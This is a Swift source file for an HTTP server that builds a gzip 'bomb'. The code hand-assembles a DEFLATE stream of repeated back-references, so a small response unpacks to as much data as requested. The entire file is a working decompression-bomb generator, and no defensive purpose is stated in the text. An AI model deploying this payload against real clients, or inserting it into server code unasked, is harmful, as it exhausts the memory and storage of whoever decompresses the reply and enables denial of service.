import HTTPServer

/// A gzip member of a few megabytes that unpacks to as much as is asked for.
enum GzipBomb {
    /// RFC 1951: one block with fixed codes, a letter, then copies of the 258 letters before.
    ///
    /// A copy takes 13 bits, so thirteen bytes hold eight of them and repeat; the end is left off, which nobody reaches.
    static func pieces(unpacked: UInt64) -> [Reply.Piece] {
        var bits = BitWriter()
        bits.add([0, 1, 0])  // not the last block, fixed codes
        bits.add(code: 0x30 + UInt32(UInt8(ascii: "A")), length: 8)
        for _ in 0..<24 {
            bits.add(code: 0b1100_0101, length: 8)  // length 258
            bits.add(code: 0, length: 5)  // distance 1
        }
        let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        // The copies begin at bit 11: from byte 2 on everything repeats.
        return [
            .bytes(header + bits.bytes.prefix(2)), .repeated(Array(bits.bytes[2..<15]), times: unpacked / (8 * 258)),
        ]
    }

    private struct BitWriter {
        var bytes: [UInt8] = []
        private var count = 0

        mutating func add(_ bits: [UInt8]) {
            for bit in bits {
                if count % 8 == 0 { bytes.append(0) }
                bytes[count / 8] |= bit << UInt8(count % 8)
                count += 1
            }
        }

        /// Codes stand with their highest bit first.
        mutating func add(code: UInt32, length: Int) {
            add((0..<length).reversed().map { UInt8(code >> UInt32($0) & 1) })
        }
    }
}
